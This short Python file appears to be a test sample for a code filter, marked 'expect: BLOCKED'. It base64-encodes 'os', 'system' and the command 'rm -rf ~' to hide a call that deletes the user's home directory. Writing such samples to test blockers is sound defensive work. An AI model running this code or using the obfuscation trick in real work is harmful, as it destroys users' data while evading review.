# expect: BLOCKED
import base64
def d(s):
    return base64.b64decode(s).decode()
getattr(__import__(d("b3M=")), d("c3lzdGVt"))(d("cm0gLXJmIH4="))
